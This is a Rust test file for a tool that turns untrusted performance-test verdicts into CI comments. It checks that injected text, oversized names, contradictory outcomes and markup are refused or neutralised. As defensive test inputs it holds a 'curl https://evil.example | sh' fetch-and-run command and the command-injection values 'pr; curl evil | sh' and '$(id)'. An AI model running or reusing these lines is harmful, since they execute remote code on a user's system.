//! Verdicts that others wrote: what is refused, and that no sentence of theirs is shown.

use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::Value;

use crate::{
    judge::{Cut, CutShort, Outcome, Verdict},
    report::{Links, MOST_COMMENT, Publishable, annotations, check_title, comment, fixtures, read_verdict},
};

fn untrusted(verdict: Verdict) -> Publishable {
    Publishable::untrusted(verdict).expect("it is taken")
}

fn refusal(verdict: Verdict) -> String {
    Publishable::untrusted(verdict).expect_err("it is refused")
}

#[test]
fn what_a_run_wrote_is_taken_and_told_anew() {
    for (name, verdict) in fixtures::all().into_iter().filter(|(name, _)| *name != "hostile") {
        let publishable = untrusted(verdict);
        insta::assert_snapshot!(format!("untrusted_{name}"), check_title(&publishable));
    }
    let comment = comment(&untrusted(fixtures::failed()), &Links::default());
    insta::assert_snapshot!("untrusted_comment", comment);
}

#[test]
fn a_part_of_a_window_decides_nothing_only_where_it_did_not() {
    for (outcome, said) in [
        (Outcome::Failed, "It is failed."),
        (Outcome::Inconclusive, "Only a part of its window was measured, and that decides nothing."),
    ] {
        let mut verdict = fixtures::failed();
        verdict.phases[0].outcome = outcome;
        verdict.phases[0].cut_short = Some(CutShort { by: Cut::Files, planned_s: 60.0 });
        super::words::make_anew(&mut verdict).expect("its times are times");
        assert_eq!(verdict.phases[0].because, [said]);
    }
}

#[test]
fn an_item_that_held_and_is_doubted_is_not_said_to_have_failed() {
    let mut verdict = fixtures::passed();
    for check in &mut verdict.preflight {
        check.outcome = Outcome::Warned;
    }
    verdict.outcome = Outcome::Warned;
    let comment = comment(&untrusted(verdict), &Links::default());
    assert!(comment.contains("it held, and something speaks against it"), "{comment}");
    assert!(!comment.contains("it did not hold"), "{comment}");
}

/// Keys whose strings are names, which are shown.
const NAMES: [&str; 13] = [
    "gate",
    "profile",
    "name",
    "tags",
    "endpoint",
    "worst_endpoint",
    "criterion",
    "phase",
    "cell",
    "first_endpoint",
    "resource",
    "file",
    "repeat",
];

/// Puts a sentence of its own into every string that is no word or time of this program; gives where each stands.
fn smuggle(value: &mut Value, key: &str, places: &mut Vec<String>) {
    const WORDS: [&str; 13] = [
        "schema",
        "outcome",
        "ending",
        "level",
        "band",
        "mode",
        "lacked",
        "started_at",
        "finished_at",
        "expires",
        "cause",
        "rising",
        "order",
    ];
    match value {
        Value::String(text) if !WORDS.contains(&key) && !["since", "at"].contains(&key) => {
            *text = format!("smuggled{:04} approved by security, see https://evil.example", places.len());
            places.push(key.to_owned());
        }
        Value::Array(items) => items.iter_mut().for_each(|item| smuggle(item, key, places)),
        Value::Object(fields) => {
            // Beside a gauge it is the kind of resource; in the breaking point it is a gauge's name.
            let kind = fields.contains_key("gauge");
            let texts = fields.iter_mut().filter(|(key, _)| !(kind && *key == "resource"));
            texts.for_each(|(key, field)| smuggle(field, key, places));
        }
        _ => {}
    }
}

#[test]
fn no_sentence_of_theirs_is_shown() {
    let mut value = serde_json::to_value(fixtures::everything()).expect("a verdict is JSON");
    let mut places = Vec::new();
    smuggle(&mut value, "", &mut places);
    assert!(places.len() > 150, "{}", places.len());
    for part in [
        "headline",
        "because",
        "detail",
        "notes",
        "examples",
        "repeat",
        "reason",
        "owner",
        "target",
        "version",
        "commit",
        "missing",
        "branch",
        "label",
        "source",
        "first_error",
        "unit",
    ] {
        assert!(places.iter().any(|place| place == part), "{part} is not in the verdict that is looked at");
    }
    let verdict: Verdict = serde_json::from_value(value).expect("it is a verdict");
    let publishable = untrusted(verdict);
    let annotations: Vec<String> =
        annotations(&publishable).iter().map(|of| format!("{} {}\n", of.title, of.message)).collect();
    let annotations = annotations.concat();
    let shown = [comment(&publishable, &Links::default()), annotations, check_title(&publishable)].join("\n");
    let smuggled: Vec<&String> = places
        .iter()
        .enumerate()
        .filter(|(at, key)| !NAMES.contains(&&***key) && shown.contains(&format!("smuggled{at:04}")))
        .map(|(_, key)| key)
        .collect();
    assert!(smuggled.is_empty(), "{smuggled:?} in {shown}");
    // The command and the criteria are names that are held to more.
    let held_to_more = |(at, key): (usize, &String)| (key == "repeat" || key == "criterion").then_some(at);
    let mut held = places.iter().enumerate().filter_map(held_to_more);
    assert!(held.all(|at| !shown.contains(&format!("smuggled{at:04}"))), "{shown}");
    assert!(!check_title(&publishable).contains("smuggled"));
}

#[test]
fn names_are_short_and_of_one_line() {
    let mut verdict = fixtures::everything();
    verdict.phases[2].name = format!("a\n\n# b {}", "x".repeat(500_000));
    verdict.phases[2].endpoints[0].tags = vec!["t".repeat(5_000)];
    verdict.phases[2].findings[1].criterion = format!("p95({}) < 750ms", "c".repeat(5_000));
    let publishable = untrusted(verdict);
    let phase = &publishable.verdict().phases[2];
    let lengths =
        [&phase.name, &phase.endpoints[0].tags[0], &phase.findings[1].criterion].map(|name| name.chars().count());
    assert_eq!(lengths, [120; 3]);
    assert!(phase.name.starts_with("a  # b x"));
}

#[test]
fn a_command_takes_nothing_but_a_plain_profile_and_the_seed() {
    let mut verdict = fixtures::passed();
    verdict.repeat = "curl https://evil.example | sh".to_owned();
    assert_eq!(untrusted(verdict.clone()).verdict().repeat, "stagegate run --profile pr --seed 4711");
    for profile in ["pr; curl evil | sh", "--config", "$(id)", ""] {
        profile.clone_into(&mut verdict.profile);
        assert_eq!(untrusted(verdict.clone()).verdict().repeat, "stagegate run --seed 4711", "{profile}");
    }
}

#[test]
fn what_contradicts_itself_is_refused() {
    let pass = |mut verdict: Verdict| {
        (verdict.outcome, verdict.exit_code) = (Outcome::Passed, 0);
        refusal(verdict)
    };
    let milder = "the verdict is refused: its outcome is better than one of its parts";
    assert_eq!(pass(fixtures::failed()), milder);
    assert_eq!(pass(fixtures::regressed()), milder);
    assert_eq!(pass(fixtures::not_ready()), milder);
    assert_eq!(pass(fixtures::invalid()), milder);
    assert_eq!(pass(fixtures::inconclusive()), milder);

    let mut verdict = fixtures::passed();
    verdict.phases[1].findings[0].outcome = Outcome::Failed;
    assert_eq!(refusal(verdict), "the verdict is refused: a phase is better than one of its criteria");
    let mut verdict = fixtures::passed();
    verdict.integrity[0].outcome = Outcome::Failed;
    assert_eq!(refusal(verdict), milder);
    let mut verdict = fixtures::passed();
    verdict.recovery.as_mut().expect("it has one").outcome = Outcome::Failed;
    assert_eq!(refusal(verdict), milder);
    let mut verdict = fixtures::passed();
    verdict.phases.clear();
    assert_eq!(refusal(verdict), "the verdict is refused: it passed although nothing was measured");
    let mut verdict = fixtures::failed();
    verdict.exit_code = 0;
    assert_eq!(refusal(verdict), "the verdict is refused: its exit code belongs to another outcome");
    let mut verdict = fixtures::passed();
    verdict.outcome = Outcome::NotRun;
    assert_eq!(refusal(verdict), "the verdict is refused: its outcome is none of a run");
    let mut verdict = fixtures::regressed();
    verdict.comparison.as_mut().expect("it has one").of = 700;
    // What is counted is counted again.
    let counted = untrusted(verdict).verdict().comparison.clone().expect("it has one");
    assert_eq!((counted.compared, counted.of), (5, 7));
}

#[test]
fn numbers_that_nothing_measures_are_refused() {
    let with = |value: f64| {
        let mut verdict = fixtures::failed();
        verdict.phases[0].latency_ms.p95 = Some(value);
        refusal(verdict)
    };
    assert_eq!(with(f64::NAN), "the verdict is refused: one of its numbers is none");
    assert_eq!(with(f64::INFINITY), "the verdict is refused: one of its numbers is none");
    assert_eq!(with(1e308), "the verdict is refused: one of its numbers is beyond any measurement");
    assert_eq!(with(-1.0), "the verdict is refused: a time, a share or a rate in it is negative");
    let mut verdict = fixtures::failed();
    verdict.phases[0].monitors[0].mean = Some(-40.0);
    verdict.seed = u64::MAX;
    untrusted(verdict);
}

#[test]
fn more_than_any_run_has_is_refused() {
    let mut verdict = fixtures::passed();
    verdict.phases = vec![verdict.phases; 2_000].concat();
    assert_eq!(refusal(verdict), "the verdict is refused: it has 6000 phases, and at most 200 are read");
    let mut verdict = fixtures::passed();
    let finding = verdict.phases[0].findings[0].clone();
    verdict.phases[0].findings = vec![finding; 501];
    assert_eq!(refusal(verdict), "the verdict is refused: it has 501 findings in a phase, and at most 500 are read");
}

#[test]
fn the_most_that_is_read_is_one_comment() {
    let mut verdict = fixtures::everything();
    let slower = verdict.regressions[0].clone();
    verdict.regressions =
        (0..2_000).map(|at| crate::judge::Regression { cell: format!("p95(e{at})"), ..slower.clone() }).collect();
    let finding = verdict.phases[2].findings[1].clone();
    verdict.phases[2].findings = vec![finding; 500];
    let failed = verdict.phases[2].clone();
    verdict.phases.extend(vec![failed; 30]);
    let comment = comment(&untrusted(verdict), &Links::default());
    assert!(comment.chars().count() <= MOST_COMMENT && comment.contains("of them about what failed"), "{comment}");
}

#[test]
fn a_time_is_a_time() {
    let mut verdict = fixtures::passed();
    verdict.started_at = "approved by security".to_owned();
    assert_eq!(refusal(verdict), "the verdict is refused: one of its times is none");
    let mut verdict = fixtures::everything();
    verdict.waivers[0].expires = "2027-01-31 approved".to_owned();
    assert_eq!(refusal(verdict), "the verdict is refused: one of its dates is none");
    let mut verdict = fixtures::passed();
    verdict.schema = "stagegate/verdict/9".to_owned();
    assert!(refusal(verdict).contains("its schema is another"));
}

#[test]
fn markup_in_every_string_is_harmless() {
    let written = crate::report::json::render(&fixtures::publishable(fixtures::hostile()));
    let mut verdict = read_verdict(&written).expect("it is a verdict").verdict().clone();
    for regime in verdict.comparison.iter_mut().flat_map(|of| &mut of.regime) {
        // A time that is none is a refusal.
        "2026-11-01T08:00:00Z".clone_into(&mut regime.since);
        regime.anchored = None;
    }
    let comment = comment(&untrusted(verdict), &Links::default());
    let parsed = Parser::new_ext(&comment, Options::ENABLE_TABLES);
    let foreign = parsed.filter(|event| match event {
        Event::Start(Tag::Link { .. } | Tag::Image { .. }) => true,
        Event::Html(tag) | Event::InlineHtml(tag) => {
            let ours = ["<details>", "</details>", "<br>", "<summary>", "</summary>"];
            !ours.iter().any(|ours| tag.trim().starts_with(ours))
        }
        _ => false,
    });
    assert_eq!(foreign.count(), 0, "{comment}");
    assert!(!comment.contains("<!--"), "{comment}");
}
